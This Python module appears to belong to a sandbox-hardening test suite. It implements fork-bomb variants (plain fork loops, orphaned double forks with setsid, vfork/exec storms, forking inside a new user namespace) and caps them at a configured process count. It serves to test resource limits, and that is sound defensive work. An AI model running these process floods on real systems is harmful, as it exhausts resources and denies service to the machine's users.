"""Attack 5: fork bombs. Success is the number of live processes that the event names; more are not made."""

import contextlib
import os
import signal
import subprocess
from typing import Any

from . import system
from .lib import LIFE_SECONDS, Event, Tries, end_by_itself, in_child, keep, linger, run
from .mark import MARK


def _until_refused(event: Event, tries: Tries, make: Any) -> None:
    """Processes by `make`, which gives the pid, until there are enough."""
    pids: list[int] = []
    try:
        while len(pids) < event["processes"]:
            pids.append(make())
        keep(event)
        tries.got(f"{len(pids)} processes")
    finally:
        if event.get("is_control"):
            for pid in pids:
                with contextlib.suppress(ProcessLookupError):
                    os.kill(pid, signal.SIGKILL)


def _fork() -> int:
    pid = os.fork()
    if pid == 0:
        linger()
    return pid


def _double_fork() -> int:
    """A grandchild in a session of its own, whose parent is gone."""
    read_fd, write_fd = os.pipe()
    first = os.fork()
    if first == 0:
        try:
            os.setsid()
            second = os.fork()
            if second == 0:
                os.close(write_fd)
                linger()
            os.write(write_fd, str(second).encode())
        finally:
            os._exit(0)
    os.close(write_fd)
    with open(read_fd, "rb") as pipe:
        told = pipe.read()
    os.waitpid(first, 0)
    if not told:
        raise BlockingIOError(11, "the second fork was refused")
    return int(told)


def plain(event: Event, tries: Tries) -> None:
    """One fork after the other."""
    _until_refused(event, tries, _fork)


def double(event: Event, tries: Tries) -> None:
    """Double forks with setsid."""
    _until_refused(event, tries, _double_fork)


def spawned(event: Event, tries: Tries) -> None:
    """A storm of vfork and exec, each in a session of its own."""
    folder = os.environ.get("TMPDIR", "/tmp")
    program = os.path.join(folder, MARK)
    with contextlib.suppress(FileExistsError):
        os.symlink("/bin/sleep", program)

    def make() -> int:
        return subprocess.Popen([program, str(LIFE_SECONDS)], start_new_session=True, stdin=subprocess.DEVNULL).pid

    _until_refused(event, tries, make)


def in_namespace(event: Event, tries: Tries) -> None:
    """In a user namespace of its own, where the count could begin anew."""

    def attempt() -> object:
        end_by_itself()
        system.call("unshare", system.NAMES["NEWUSER"])
        inner = Tries()
        plain(event, inner)
        return inner.obtained

    tries.take("forks", lambda: in_child(attempt, seconds=LIFE_SECONDS))


def handler(event: Event, _context: object) -> "dict[str, Any]":
    """Forks."""
    return run({"plain": plain, "double": double, "vfork": spawned, "in a namespace": in_namespace}, event)
